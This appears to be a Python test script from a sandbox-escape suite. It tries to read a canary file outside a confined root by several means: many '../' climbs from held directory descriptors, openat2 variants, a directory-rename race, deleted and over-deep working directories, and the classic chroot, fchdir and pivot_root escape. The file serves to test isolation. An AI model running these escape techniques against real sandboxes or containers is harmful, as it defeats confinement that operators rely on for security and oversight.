# Climbs: more `..` than there are directories, from every directory that can be held, while directories move.
import ctypes
import errno
import os
import threading
from attack import attempt, libc, syscall

CANARY = os.environ["ATTACK_CANARY_FILE"].lstrip("/")
UP = "../" * 64
SYS_OPENAT2, RESOLVE_IN_ROOT, RESOLVE_BENEATH = 437, 0x10, 0x08
HERE = os.getcwd()
STARTS = ["/", HERE, "/tmp", "/run", "/dev", "/dev/shm", "/usr", "/usr/bin", "/proc", "/proc/self", "/proc/sys",
    "/etc"]


def opened(path, at=None):
    os.close(os.open(path, os.O_RDONLY, dir_fd=at))


def from_held(start):
    at = os.open(start, os.O_PATH | os.O_DIRECTORY)
    try:
        opened(UP + CANARY, at)
    finally:
        os.close(at)


def with_openat2(resolve):
    at = os.open("/", os.O_PATH)
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, resolve)
    try:
        os.close(again(lambda: syscall(SYS_OPENAT2, at, (UP + CANARY).encode(), how, 24)))
    finally:
        os.close(at)


def again(call):
    # The kernel follows no `..` below a root of its own while anything is mounted or renamed anywhere on the host.
    for _ in range(10_000):
        try:
            return call()
        except BlockingIOError:
            pass
    raise BlockingIOError(errno.EAGAIN, "")


def call(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), "")


def step_by_step():
    for _ in range(64):
        os.chdir("..")
    opened(CANARY)


def from_a_directory_that_is_gone():
    os.mkdir(HERE + "/gone")
    os.chdir(HERE + "/gone")
    os.rmdir(HERE + "/gone")
    opened(UP + CANARY)


def long_way():
    # Deeper than a path can be long, then up again by `..`.
    os.chdir(HERE)
    for _ in range(80):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    opened("../" * 160 + CANARY)


def climb_while_it_moves(rounds=3000):
    """A directory that is moved away under somebody who climbs once led out of a chroot."""
    os.chdir(HERE)
    for path in ("race/a/b/c/d", "race/z"):
        os.makedirs(path)
    over = False

    def move():
        while not over:
            for old, new in (("race/a/b", "race/z/b"), ("race/z/b/c", "race/c"), ("race/c", "race/z/b/c"),
                ("race/z/b", "race/a/b")):
                try:
                    os.rename(old, new)
                except OSError:
                    pass

    mover = threading.Thread(target=move)
    mover.start()
    got = 0
    for _ in range(rounds):
        try:
            at = os.open("race/a/b/c/d", os.O_PATH)
        except OSError:
            continue
        try:
            opened(UP + CANARY, at)
            got += 1
        except OSError:
            pass
        os.close(at)
    over = True
    mover.join()
    return f"{got} times"


def move_across(old, new):
    # Both lie on one tmpfs, but a directory that left its mount would have the tmpfs' own root above it.
    os.makedirs(old, exist_ok=True)
    at = os.open(old, os.O_PATH)
    os.rename(old, new)
    return "moved, and above it " + " ".join(os.listdir(os.open("..", os.O_RDONLY, dir_fd=at)))


attempt("by many dots", opened, UP + CANARY)
attempt("by many dots from the root", opened, "/" + UP + CANARY)
attempt("by dots and slashes", opened, "..//.//" * 64 + CANARY)
for start in STARTS:
    attempt(f"from {start}", from_held, start)
attempt("openat2", with_openat2, 0)
attempt("openat2 in its own root", with_openat2, RESOLVE_IN_ROOT)
attempt("openat2 beneath", with_openat2, RESOLVE_BENEATH)
for there in ("/tmp", "/build", "/var/tmp", "/run", "/dev/shm"):
    attempt(f"moves a directory to {there}", move_across, HERE + "/wanderer", there + "/wanderer")
attempt("while directories move", climb_while_it_moves)
attempt("from a directory that is gone", from_a_directory_that_is_gone)
attempt("from far below", long_way)

# The classic: hold the root, change it, and climb from what is held.
os.chdir(HERE)
held = os.open("/", os.O_RDONLY)
os.makedirs("jail", exist_ok=True)
attempt("chroot to a directory", lambda: call(libc.chroot(b"jail")))
attempt("chroot to the root", lambda: call(libc.chroot(b"/")))
attempt("chroot through proc", lambda: call(libc.chroot(b"/proc/self/root")))
attempt("back to what was held", os.fchdir, held)
attempt("climbs from there", step_by_step)
attempt("chroot where it arrived", lambda: call(libc.chroot(b".")))
attempt("the canary then", opened, "/" + CANARY)
attempt("pivot_root", lambda: call(libc.pivot_root(b".", b".")))
